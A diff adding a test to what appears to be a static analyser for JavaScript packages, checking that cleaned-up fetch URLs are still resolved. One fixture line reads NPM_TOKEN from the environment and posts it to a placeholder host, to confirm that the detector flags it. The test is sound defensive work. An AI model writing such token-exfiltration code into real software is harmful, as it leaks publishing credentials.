@@ -1,7 +1,7 @@
 import { posix } from 'node:path'
 import t from 'tap'
 import { CodeAnalysis, type CodeHost } from '../../../../lib/inspect/code/analysis.ts'
-import type { Flow, Phase } from '../../../../lib/types.ts'
+import { HOLE, type Flow, type Phase } from '../../../../lib/types.ts'
 
 type Files = Readonly<Record<string, string>>
 
@@ -633,3 +633,27 @@ t.test(
     t.end()
   },
 )
+
+t.test('an address that is tidied up before it is used is still known', t => {
+  const tidied = (text: string) => `fetch(${text} + '/x')`
+  const rows: readonly (readonly [text: string, destinations: readonly string[]])[] = [
+    ["'https://c.invalid/'.replace(/\\/+$/, '')", ['https://c.invalid/x']],
+    ["(process.env.HOST || 'https://c.invalid/').replace(/\\/$/, '')", [`${HOLE}/x`, 'https://c.invalid/x']],
+    ["'https://c-x.invalid'.replace(/-x/g, '')", ['https://c.invalid/x']],
+    ["'https://a|https://c.invalid'.split(/[|]/)[1]", ['https://c.invalid/x']],
+    ["'https://c.invalid'.replace(new RegExp(process.env.P), '')", [`${HOLE}/x`]],
+    // What a function gives is only known when it runs.
+    ["'https://c.invalid'.replace(/c/, () => process.title)", [`${HOLE}/x`]],
+  ]
+  for (const [text, destinations] of rows) {
+    const { facts } = analyse({ 'i.js': tidied(text) })
+    const contacts = facts.flatMap(fact => (fact.kind === 'contacts' ? [fact.destinations] : []))
+    t.strictSame(contacts, [destinations], text)
+  }
+  // As an object it is what it was: a match is nobody's constant.
+  const { flows } = analyse({
+    'i.js': "const r = /t=(.*)/.exec(process.env.NPM_TOKEN); fetch('https://c.invalid/', { body: r[1] })",
+  })
+  t.strictSame(flows.map(short), ['env-secret NPM_TOKEN -> network payload i.js:1'])
+  t.end()
+})
